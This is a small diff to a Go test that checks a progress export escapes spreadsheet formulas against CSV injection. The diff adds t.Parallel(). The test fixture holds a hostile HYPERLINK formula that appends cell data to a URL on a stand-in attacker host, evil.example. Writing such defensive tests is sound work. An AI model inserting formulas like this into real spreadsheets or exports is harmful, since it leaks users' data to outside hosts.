@@ -13,6 +13,7 @@ import (
 // is written quoted with a single quote in front, as OWASP advises against
 // CSV injection; other cells are written as they are.
 func TestProgressExportNeutralisesSpreadsheetFormulas(t *testing.T) {
+	t.Parallel()
 	w := newWorld(t)
 	hostile := map[string]string{
 		"participant": `=HYPERLINK("https://evil.example/?"&A1,"Klik")`,
